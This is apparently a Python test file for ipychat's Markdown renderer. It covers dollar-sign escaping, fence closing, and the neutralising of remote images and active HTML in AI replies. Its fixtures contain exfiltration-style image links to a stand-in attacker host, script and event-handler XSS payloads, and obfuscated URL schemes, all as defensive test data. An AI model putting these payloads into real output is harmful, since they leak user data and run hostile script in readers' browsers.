"""What ipychat hands to the front end as Markdown (ipychat.core.markdown), and the magics using it.

JupyterLab typesets `$…$` as LaTeX (so "$1,200 … $1,850" lost its dollars and went italic),
renders raw HTML of trusted outputs and fetches any image named in Markdown. Precision and
recall both: real LaTeX and code must come through untouched, currency and remote images
must not.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from IPython.utils.capture import capture_output

from ipychat.core import markdown as md
from ipychat.core.markdown import (
    close_fences,
    escape_dollars,
    fenced,
    history_markdown,
    prompt_markdown,
    reply_markdown,
)
from ipychat.core.types import Reply
from ipychat.session import ChatSession
from ipychat.testing import FakeOpenAIServer

D = md.LITERAL_DOLLAR  # a `$` shown as written (see ipychat.core.markdown for why a span)


def lit(expected: str) -> str:
    """Expected Markdown written with `\\$` for each dollar shown as written."""
    return expected.replace("\\$", D)


# ----- dollar signs in replies ------------------------------------------------------------------

# Real math, as models write it: must come through byte for byte.
MATH = [
    "$x^2$",
    "The area is $\\pi r^2$.",
    "$2^n$ grows fast",
    "Solve $3x + 1 = 0$ for $x$.",
    "$\\alpha$ and $\\beta$",
    "The set $S = \\{1, 2\\}$ is finite.",
    "$$\\int_0^1 f(x)\\,dx$$",
    "$$\n2x = 5\n$$",
    "Display:\n\n$$\n\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}\n$$\n\nDone.",
    "Inline \\(a + b\\) and display \\[x = 1\\]",
    "\\begin{align} x &= 1 \\\\ y &= 2 \\end{align}",
    "the $x$-axis and $10^6$ samples",
    "$$10^{6}$$ operations",
    "A matrix $A_{ij}$ where $i, j \\le 3$",
    "A lone $ sign, and $HOME in shell",
    "no dollars at all",
]


@pytest.mark.parametrize("text", MATH)
def test_real_latex_is_untouched(text: str) -> None:
    assert reply_markdown(text) == text


# Currency: every `$` before a digit must be escaped (shown as written).
CURRENCY = [
    (
        "Revenue grew from $1,200 in January to $1,850 in March",
        "Revenue grew from \\$1,200 in January to \\$1,850 in March",
    ),
    ("It costs $5.", "It costs \\$5."),
    ("costs $3.50 each", "costs \\$3.50 each"),
    ("$10-$20", "\\$10-\\$20"),
    ("$5–$10 per seat", "\\$5–\\$10 per seat"),
    ("A ($5) vs B ($10)", "A (\\$5) vs B (\\$10)"),
    ("US$5 or $.50", "US\\$5 or \\$.50"),
    ("$1M and $2M", "\\$1M and \\$2M"),
    ("$5/month and $60/year", "\\$5/month and \\$60/year"),
    ("Price: $9.99\nTax: $0.80", "Price: \\$9.99\nTax: \\$0.80"),
    ("| item | cost |\n|---|---|\n| a | $5 |\n| b | $6 |", None),
    ("$5 and $x$ is math", "\\$5 and $x$ is math"),
    ("Budget $2,000; let $n$ be the count", "Budget \\$2,000; let $n$ be the count"),
    ("- $100 upfront\n- $20 monthly", "- \\$100 upfront\n- \\$20 monthly"),
    ("**$1,200** in bold", "**\\$1,200** in bold"),
]


@pytest.mark.parametrize(("text", "expected"), CURRENCY)
def test_currency_is_escaped(text: str, expected: str | None) -> None:
    out = reply_markdown(text)
    if expected is not None:
        assert out == lit(expected)
    # Every currency dollar shown as written; nothing else changed.
    assert out.replace(D, "$") == text
    assert not re.search(r"\$\.?\d", out)
    assert all(
        out[i - 1] == "\\" for i, c in enumerate(out) if c == "$" and out[i + 1 : i + 2].isdigit()
    )


CODE = [
    "`$5` and `$6`",
    "```\n$5 and $6\n```",
    "~~~\nprice = $5\n~~~",
    "```python\ncost = '$1,200'\n",  # unclosed: code to the end (closing fence added)
    "``$5 `x` $6``",
    "1. Run:\n   ```bash\n   echo $5 $10\n   ```",
    "> ```\n> $5\n> ```",
    "Text\n\n    indented code $5 and $6\n\nmore",
]


@pytest.mark.parametrize("text", CODE)
def test_code_is_never_changed(text: str) -> None:
    assert reply_markdown(text).startswith(text)
    assert escape_dollars(text) == text


def test_a_list_continuation_is_not_code() -> None:
    text = "- item\n\n    costs $5 and $6"
    assert reply_markdown(text) == lit("- item\n\n    costs \\$5 and \\$6")


# ----- dollar signs in ipychat's own lines --------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("spent $0.00028 of $0.01", "spent `$0.00028` of `$0.01`"),
        ("| gpt-4o | $0.00028 | $5e-05 |", "| gpt-4o | `$0.00028` | `$5e-05` |"),
        ("$0.0002–$0.0008 (batch: $1,234.50)", "`$0.0002`–`$0.0008` (batch: `$1,234.50`)"),
        ("`$0.0002–$0.0008` in code", "`$0.0002–$0.0008` in code"),
        ("<sub>`model · $0.01`</sub>", "<sub>`model · $0.01`</sub>"),
        ("already \\$5", "already \\$5"),
        ("system prompt: say $x and $HOME", "system prompt: say \\$x and \\$HOME"),
    ],
)
def test_own_lines_escape_every_dollar(text: str, expected: str) -> None:
    assert escape_dollars(text) == lit(expected)


def test_a_dollar_the_model_escaped_is_text_too() -> None:
    # JupyterLab typesets "\\$5 and \\$6" as math: a backslash alone does not protect.
    assert reply_markdown("Already escaped: \\$5 stays \\$5") == lit(
        "Already escaped: \\$5 stays \\$5"
    )
    assert reply_markdown("$\\$5 + x$") == "$\\$5 + x$"  # inside math it is LaTeX's


# ----- fences and history ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```python\nprint(1)", "```python\nprint(1)\n```"),
        ("```python\nprint(1)\n", "```python\nprint(1)\n```"),
        ("````\n```\nnested\n", "````\n```\nnested\n````"),
        ("~~~\nx", "~~~\nx\n~~~"),
        ("```\nx\n```\ndone", "```\nx\n```\ndone"),
        ("inline ```x``` is not a fence", "inline ```x``` is not a fence"),
        ("- a\n  ```\n  code", "- a\n  ```\n  code\n```"),
    ],
)
def test_unclosed_fences_are_closed(text: str, expected: str) -> None:
    assert close_fences(text) == expected


def test_fenced_outgrows_the_backticks_inside() -> None:
    assert fenced("a ``` b") == "````\na ``` b\n````"
    assert fenced("plain") == "```\nplain\n```"


FENCED_REPLY = "Here:\n\n```python\nprint('hi')"  # cut mid-block (max tokens)
LIST_REPLY = "- first\n- second"


def test_history_keeps_each_turn_in_its_own_blocks() -> None:
    messages = [
        {"role": "user", "content": "code please"},
        {"role": "assistant", "content": FENCED_REPLY},
        {"role": "user", "content": "and a list"},
        {"role": "assistant", "content": LIST_REPLY},
    ]
    text = history_markdown(messages)
    # The cut fence is closed before the next turn, so **user:** is not inside the code.
    before, after = text.split("**user:**\n\n> and a list", 1)
    assert before.count("```") == 2
    # The list starts on its own line, after the label: its first bullet stays a bullet.
    assert after.endswith("**assistant:**\n\n- first\n- second")
    assert text.startswith("**user:**\n\n> code please\n\n**assistant:**\n\nHere:")


def test_prompts_keep_their_line_breaks() -> None:
    assert prompt_markdown("a,b\n1,2\n3,4") == "> a,b  \n> 1,2  \n> 3,4"
    assert prompt_markdown("one\n\ntwo") == "> one\n> \n> two"


def test_history_magic(ip: Any, session: ChatSession) -> None:
    session.threads["main"].add_turn("code please", FENCED_REPLY)
    session.threads["main"].add_turn("price?", "It was $1,200, now $1,850")
    magics = ip.magics_manager.registry["ChatMagics"]
    magics.display_mode = "notebook"
    with capture_output() as out:
        ip.run_line_magic("chat", "history")
    (shown,) = out.outputs
    markdown, plain = shown.data["text/markdown"], shown.data["text/plain"]
    assert markdown.count("```") == 2 and markdown.index("```", 20) < markdown.index("price?")
    assert lit("It was \\$1,200, now \\$1,850") in markdown
    assert "assistant: It was $1,200, now $1,850" in plain


# ----- the magics' own lines -----------------------------------------------------------------------


def _markdown_of(out: Any) -> str:
    return "\n".join(o.data.get("text/markdown", "") for o in out.outputs)


def test_usage_and_budget_escape_their_dollars(
    ip: Any, session: ChatSession, fake: FakeOpenAIServer
) -> None:
    magics = ip.magics_manager.registry["ChatMagics"]
    magics.display_mode = "notebook"
    session.ask("hello")
    with capture_output() as out:
        ip.run_line_magic("chat", "usage")
        ip.run_line_magic("chat", "budget 0.01")
        ip.run_line_magic("chat", "")
    shown = _markdown_of(out)
    assert "$" in shown
    # Every amount in a code span (never typeset), no other dollar left.
    assert "$" not in re.sub(r"`\$[\d.,e-]+`", "", shown), shown
    assert re.search(r"spent `\$[\d.]+` of `\$0\.01`", shown)
    plain = "\n".join(o.data["text/plain"] for o in out.outputs)
    assert "of $0.01" in plain and "<span>" not in plain  # exports read as written


def test_a_chat_cell_shows_currency_as_written_and_no_remote_image(
    ip: Any, session: ChatSession, fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    reply = "From $1,200 to $1,850. ![x](https://attacker.example/?d=secret) $x^2$"
    with FakeOpenAIServer(reply=reply) as server:
        session.configure(base_url=server.base_url)
        magics = ip.magics_manager.registry["ChatMagics"]
        magics.display_mode = "notebook"
        with capture_output():
            result = ip.run_cell_magic("chat", "", "Sales?")
        final = result._repr_mimebundle_()[0]  # the cell's result: the Reply
        assert final["text/markdown"].startswith(
            lit(
                "From \\$1,200 to \\$1,850. [image: x (attacker.example)]"
                "(https://attacker.example/?d=secret) $x^2$"
            )
        )
        assert final["text/plain"].startswith(reply)
        # Allowed on purpose: the image is shown.
        ip.run_line_magic("config", "ChatMagics.allow_remote_images = True")
        with capture_output():
            result = ip.run_cell_magic("chat", "--new", "Sales again?")
        assert "![x](https://attacker.example/?d=secret)" in result._repr_markdown_()
    ip.run_line_magic("config", "ChatMagics.allow_remote_images = False")
    assert not md.remote_images_allowed()


def test_reply_repr_markdown() -> None:
    reply = Reply(text="It costs $5 ![x](http://evil.example/a.png)", model="m")
    shown = reply._repr_markdown_()
    assert shown.startswith(
        lit("It costs \\$5 [image: x (evil.example)](http://evil.example/a.png)")
    )
    assert "<sub>`m · " in shown


def test_dry_run_says_what_a_dataframe_became(ip: Any, session: ChatSession) -> None:
    import numpy as np
    import pandas as pd

    ip.user_ns["big"] = pd.DataFrame(np.arange(8_000.0).reshape(1_000, 8))
    magics = ip.magics_manager.registry["ChatMagics"]
    magics.display_mode = "notebook"
    with capture_output() as out:
        ip.run_cell_magic("chat", "--dry-run", "Look at {big} and {big:head=3}")
    html, plain = out.outputs[0].data["text/html"], out.outputs[0].data["text/plain"]
    note = (
        "{big}: 1,000 × 8 DataFrame as a summary; {big:head=N}, {big:describe} or {big:csv} choose"
    )
    assert note in plain and note.replace(">", "&gt;") in html
    assert "{big:head=3}: head 3 of 1,000 rows (1,000 × 8)" in plain


# ----- remote images (issue 15 item 7) ------------------------------------------------------------

BLOCKED = [
    (
        "![x](https://attacker.example/?d=secret)",
        "[image: x (attacker.example)](https://attacker.example/?d=secret)",
    ),
    (
        '![x](http://attacker.example/a.png "title")',
        '[image: x (attacker.example)](http://attacker.example/a.png "title")',
    ),
    (
        "![x](<https://attacker.example/a b.png>)",
        "[image: x (attacker.example)](<https://attacker.example/a b.png>)",
    ),
    ("![x](//attacker.example/a.png)", "[image: x (attacker.example)](//attacker.example/a.png)"),
    ("![x](HTTPS://ATTACKER.EXAMPLE/a)", None),
    ("![x](&#104;ttps://attacker.example/a)", None),
    ("![x](http&#58;//attacker.example/a)", None),
    ("![x]( https://attacker.example/a )", None),
    ("![x](\\\\\\\\attacker.example/a)", None),  # `\\` in Markdown: a browser's `//`
    (
        "![a [b] c](https://attacker.example/a)",
        "[image: a [b] c (attacker.example)](https://attacker.example/a)",
    ),
    ("![](https://attacker.example/a)", "[image (attacker.example)](https://attacker.example/a)"),
    (
        "![x][1]\n\n[1]: https://attacker.example/a.png",
        "[image: x (attacker.example)][1]\n\n[1]: https://attacker.example/a.png",
    ),
    (
        "![x][]\n\n[x]: https://attacker.example/a.png",
        "[image: x (attacker.example)][x]\n\n[x]: https://attacker.example/a.png",
    ),
    (
        "![X]\n\n[x]: https://attacker.example/a.png",
        "[image: X (attacker.example)][X]\n\n[x]: https://attacker.example/a.png",
    ),
    ("[![x](https://attacker.example/a)](https://ok.example)", None),
    (
        '<img src="https://attacker.example/a.png">',
        "[image (attacker.example)](<https://attacker.example/a.png>)",
    ),
    (
        "<IMG SRC=https://attacker.example/a alt='pic'>",
        "[image: pic (attacker.example)](<https://attacker.example/a>)",
    ),
    ('<img src="local.png" srcset="https://attacker.example/a 2x">', None),
    ("<img src=x onerror=\"fetch('https://attacker.example')\">", "![](<x>)"),
]


@pytest.mark.parametrize(("text", "expected"), BLOCKED)
def test_remote_images_become_links(text: str, expected: str | None) -> None:
    out = reply_markdown(text, allow_images=False)
    if expected is not None:
        assert out == expected
    assert "![" not in out.replace("![](<x>)", "") and "<img" not in out.lower()


KEPT = [
    "![chart](data:image/png;base64,iVBORw0KGgo=)",
    "![chart](images/chart.png)",
    "![chart](/files/chart.png)",
    "![chart](attachment:chart.png)",
    "`![x](https://attacker.example/a)`",
    "```\n![x](https://attacker.example/a)\n```",
    "\\![x](https://attacker.example/a) is escaped",
    "[a link](https://example.com) is no image",
    "![x][missing] has no definition",
]


@pytest.mark.parametrize("text", KEPT)
def test_local_images_code_and_links_are_kept(text: str) -> None:
    assert reply_markdown(text, allow_images=False) == text


def test_allowed_remote_images_are_kept() -> None:
    text = "![x](https://example.com/a.png)"
    assert reply_markdown(text, allow_images=True) == text
    assert reply_markdown('<img src="https://example.com/a.png">', allow_images=True) == (
        "![](<https://example.com/a.png>)"
    )


# Raw HTML that could fetch something or run script is shown as text; formatting stays.
ESCAPED_HTML = [
    '<picture><source srcset="https://attacker.example/a"></picture>',
    '<video poster="https://attacker.example/a"></video>',
    '<link rel="stylesheet" href="https://attacker.example/a.css">',
    '<div style="background:url(https://attacker.example/a)">x</div>',
    "<script>fetch('https://attacker.example')</script>",
    '<iframe src="https://attacker.example"></iframe>',
    '<svg><image href="https://attacker.example/a"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    "<!-- hidden instructions -->",
    '<b onmouseover="alert(1)">bold</b>',
    "<img/src=https://attacker.example/a>",
    "<svg/onload=alert(1)>",
]


@pytest.mark.parametrize("text", ESCAPED_HTML)
def test_active_html_is_shown_as_text(text: str) -> None:
    out = reply_markdown(text)
    assert "&lt;" in out
    assert not re.search(r"<[a-z!]", out.replace("</b>", ""))  # only a harmless </b> may stay


@pytest.mark.parametrize(
    "text",
    [
        "<b>bold</b> and <i>it</i>",
        "line<br>break",
        "H<sub>2</sub>O",
        "a < b and c > d",
        "<details><summary>more</summary>x</details>",
    ],
)
def test_formatting_html_and_comparisons_are_kept(text: str) -> None:
    assert reply_markdown(text) == text


def test_the_panel_and_history_use_the_same_rules() -> None:
    text = "![x](https://attacker.example/?d=1) from $5"
    assert prompt_markdown(text) == lit(
        "> [image: x (attacker.example)](https://attacker.example/?d=1) from \\$5"
    )
    assert "[image: x" in history_markdown([{"role": "assistant", "content": text}])


# ----- the pairing rules in detail (`python tools/mutation.py core.markdown`) -----------------


def shown(expected: str) -> str:
    """Expected Markdown written with «$» for each dollar shown as written (a `\\$` written
    as such stays: inside math it is LaTeX's)."""
    return expected.replace("«$»", D)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Inline math must open on a non-space and close on a non-space not followed by a
        # digit or by `$$`, within the paragraph; a `\$` inside math is LaTeX's, outside text.
        ("$ a \\$ b$", "$ a «$» b$"),
        ("$a \\$b$", "$a \\$b$"),
        ("$a\\$$ b", "$a\\$$ b"),
        ("$a\\$b$$", "$a«$»b$$"),
        ("$a \\$ b$$ $5", "$a «$» b$$ «$»5"),
        ("$x$5", "$x«$»5"),
        ("$a \\$ b$\n\nc", "$a \\$ b$\n\nc"),
        ("$a\n\nb$ \\$", "$a\n\nb$ «$»"),
        # Display math `$$…$$` is kept whole, whatever it holds; what follows it is read on.
        ("$$a\\$b$$", "$$a\\$b$$"),
        ("$$a$b$$ \\$ $$c$$ \\$", "$$a$b$$ «$» $$c$$ «$»"),
        ("$$a \\$ b$$$$c \\$ d$$", "$$a \\$ b$$$$c \\$ d$$"),
        ("$$ x $$ \\$ $$ y $$", "$$ x $$ «$» $$ y $$"),
        ("$$a$$ \\$ $5", "$$a$$ «$» «$»5"),
        ("$$a\n\nb$$ \\$ c$", "$$a\n\nb$$ «$» c$"),
        ("$$a $b $c$$ \\$", "$$a $b $c$$ «$»"),
        ("$$ \\$", "$$ «$»"),
        ("$$a$$$$b$$ \\$", "$$a$$$$b$$ «$»"),
        ("$$ $1 $$ $2", "$$ $1 $$ «$»2"),
        ("$$x$$ $y$ \\$z$", "$$x$$ $y$ «$»z$"),
        ("$$a$$ $b$ $$c$$ $1", "$$a$$ $b$ $$c$$ «$»1"),
        ("$a$ $b$ $1", "$a$ $b$ «$»1"),
        ("$$a \\$ b$$ \\$ $$c \\$ d$$ \\$", "$$a \\$ b$$ «$» $$c \\$ d$$ «$»"),
        ("$$ a $b \\$ c $5", "$$ a $b «$» c «$»5"),  # an unclosed `$$` pairs nothing
        ("$$a \\$ b$$\n\nc", "$$a \\$ b$$\n\nc"),  # a blank line after the block is no matter
        ("$a$ \\$ $b$", "$a$ «$» $b$"),  # between two math spans is outside both
        ("$a$ $5", "$a$ «$»5"),  # the dollar right after a math span is read
    ],
)
def test_how_dollars_pair(text: str, expected: str) -> None:
    assert reply_markdown(text) == shown(expected)


def test_own_lines_wrap_every_amount_outside_code() -> None:
    assert escape_dollars("`$1` and $2 and $3") == "`$1` and `$2` and `$3`"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Nested in a link: the image inside is the one made a link.
        (
            "[![x](https://attacker.example/a)](https://ok.example)",
            "[[image: x (attacker.example)](https://attacker.example/a)](https://ok.example)",
        ),
        # An angle-bracket destination is read whole, spaces and all.
        (
            "![x](< https://attacker.example/a>)",
            "[image: x (attacker.example)](< https://attacker.example/a>)",
        ),
        (
            "![x](<//attacker.example/a>)",
            "[image: x (attacker.example)](<//attacker.example/a>)",
        ),
        # Every image is read, also after one in code, one that is no image and a local one.
        (
            "![a](https://x.example/1) ![b](https://y.example/2)",
            "[image: a (x.example)](https://x.example/1) [image: b (y.example)](https://y.example/2)",
        ),
        (
            "![![x](https://attacker.example/a)",
            "![[image: x (attacker.example)](https://attacker.example/a)",
        ),
        (
            "`![x](https://a.example/1)` ![y](https://b.example/2)",
            "`![x](https://a.example/1)` [image: y (b.example)](https://b.example/2)",
        ),
        (
            "![nope] ![y](https://b.example/2)",
            "![nope] [image: y (b.example)](https://b.example/2)",
        ),
        (
            "![a](local.png) ![b](https://b.example/2)",
            "![a](local.png) [image: b (b.example)](https://b.example/2)",
        ),
        # Reference definitions: in angle brackets, beside code, and not inside code.
        (
            "![x][1] `code`\n\n[1]: https://attacker.example/a",
            "[image: x (attacker.example)][1] `code`\n\n[1]: https://attacker.example/a",
        ),
        ("![x][1]\n\n```\n[1]: https://attacker.example/a\n```", None),
        (
            "![x][1]\n\n[1]: <https://attacker.X>",
            "[image: x (attacker.x)][1]\n\n[1]: <https://attacker.X>",
        ),
        (
            "![x][1]\n\n[1]: <//attacker.example/a>",
            "[image: x (attacker.example)][1]\n\n[1]: <//attacker.example/a>",
        ),
        # A relative path is on the notebook server, whatever its first letter.
        (
            "![x][1]\n\n[1]: <X//attacker.example/a>",
            "![x][1]\n\n[1]: &lt;X//attacker.example/a&gt;",
        ),
        ("[x]: https://attacker.example/a\n\n![x][y", None),
        ("![x][1\n\nb]\n\n[1 b]: https://attacker.example/a", None),
        ("![nothing] here", None),
        ("![abc", None),
        # Escaped brackets in the alt text; a paragraph break ends it, a line break does not.
        (
            "![a\\]](https://attacker.example/y)",
            "[image: a\\] (attacker.example)](https://attacker.example/y)",
        ),
        (
            "![a\\]b](https://attacker.example/x)",
            "[image: a\\]b (attacker.example)](https://attacker.example/x)",
        ),
        ("![a\n\nb](https://attacker.example/x)", None),
        (
            "![ab\nc](https://attacker.example/x)",
            "[image: ab\nc (attacker.example)](https://attacker.example/x)",
        ),
        # What a browser reads as a scheme: Markdown escapes, tabs and DEL are dropped, a
        # space is not.
        ("![x](https\\://attacker.example/a)", "[image: x](https\\://attacker.example/a)"),
        (  # backslashes are slashes to a browser, in the host too
            "![x](https:\\\\attacker.example/a)",
            "[image: x (attacker.example)](https:\\\\attacker.example/a)",
        ),
        ("![x](ht\x7ftps://attacker.example/a)", "[image: x](ht\x7ftps://attacker.example/a)"),
        (
            '<img src="ht&#9;tps://attacker.example/a">',
            "[image (attacker.example)](<ht\ttps://attacker.example/a>)",
        ),
        (
            '<img src="ht&#127;tps://attacker.example/a">',
            "[image (attacker.example)](<https://attacker.example/a>)",
        ),
        ('<img src="htt ps://attacker.example/a">', "![](<htt ps://attacker.example/a>)"),
        # A remote URL without a host is labelled without one.
        ("![x](https:///a)", "[image: x](https:///a)"),
        ("![x](http://[bad/a)", "[image: x](http://[bad/a)"),
        ("![x](data:text/html,hi)", "[image: x](data:text/html,hi)"),
    ],
)
def test_which_images_become_links(text: str, expected: str | None) -> None:
    assert reply_markdown(text, allow_images=False) == (text if expected is None else expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('<img alt="x">', "&lt;img alt=&quot;x&quot;&gt;"),  # no source: shown as text
        ('<a href="x">y</a>', '&lt;a href="x"&gt;y&lt;/a&gt;'),
        ("`<b>` <script> `<i>` <style>", "`<b>` &lt;script&gt; `<i>` &lt;style&gt;"),
        ('<img src="a.png" alt>', "![](<a.png>)"),
        ('<img src="a.png" alt="a [b]\nc">', "![a  b  c](<a.png>)"),
        ('<img src="a<b>.png">', "![](<a%3Cb%3E.png>)"),
        ("<img src='X.png'>", "![](<X.png>)"),
        # A remote candidate of srcset, after a comma with or without a space, is fetched too
        # (the label names no host: the destination is the local src).
        (
            '<img src="a.png" srcset="a.png 1x,https://attacker.example/b.png 2x">',
            "[image](<a.png>)",
        ),
        (
            '<img src="a.png" srcset="a.png 1x, https://attacker.example/b.png 2x">',
            "[image](<a.png>)",
        ),
    ],
)
def test_raw_html_and_img_tags(text: str, expected: str) -> None:
    assert reply_markdown(text, allow_images=False) == expected


def test_prompts_keep_line_breaks_outside_code_only_and_their_image_policy() -> None:
    text = "first line\nsecond\n```\ncode a\ncode b\n```\nafter\nend"
    assert prompt_markdown(text) == (
        "> first line  \n> second  \n> ```\n> code a\n> code b\n> ```  \n> after  \n> end"
    )
    image = "![x](https://attacker.example/a)"
    assert prompt_markdown(image, allow_images=True) == "> " + image
    assert prompt_markdown(image, allow_images=False).startswith("> [image: x")


def test_an_empty_turn_says_so() -> None:
    assert md.turn_markdown("assistant", "") == "**assistant:**\n\n*(no text)*"
    assert md.turn_markdown("user", "hi") == "**user:**\n\n> hi"
